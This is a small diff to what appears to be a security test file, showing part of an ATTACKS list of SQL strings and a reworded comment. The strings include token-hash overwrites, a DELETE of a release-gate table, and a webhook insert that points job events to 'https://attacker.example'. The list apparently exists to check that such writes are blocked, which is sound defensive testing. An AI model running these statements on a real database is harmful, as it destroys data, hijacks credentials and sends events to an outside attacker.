@@ -92,7 +92,7 @@ ATTACKS = [
     "UPDATE context_token SET token_hash = sha256('mine')",
     "SELECT gate FROM release_gate FOR UPDATE",
     "DELETE FROM release_gate",
-    # To be told, and to be called.
+    # To be notified, and to be called.
     (
         "INSERT INTO webhook (webhook_id, organization_id, url, events, secret)"
         " SELECT 'mine', organization_id, 'https://attacker.example', '{job.ended}', 'v1.mine'"
